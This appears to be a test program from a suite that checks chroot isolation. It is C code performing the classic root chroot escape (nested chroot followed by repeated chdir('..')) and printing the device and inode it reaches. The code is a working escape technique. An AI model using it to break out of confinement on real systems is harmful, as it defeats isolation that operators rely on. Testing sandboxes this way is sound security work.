/*
 * escape: the classic way out of chroot(2), for who is root inside.
 *
 * chroot(2) moves the root directory, not the working directory. Root may
 * call it again and so puts the root below where it stands: from then on
 * ".." is never stopped, up to the real root.
 *
 * Prints device:inode of the directory that it ends up in, so that the suite
 * can tell whether this is the host's root.
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    struct stat st;

    if (chdir("/") < 0 || chroot("tmp") < 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0) {
            perror("chdir");
            return 1;
        }
    if (chroot(".") < 0 || stat("/", &st) < 0) {
        perror("chroot");
        return 1;
    }
    printf("%lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
    return 0;
}
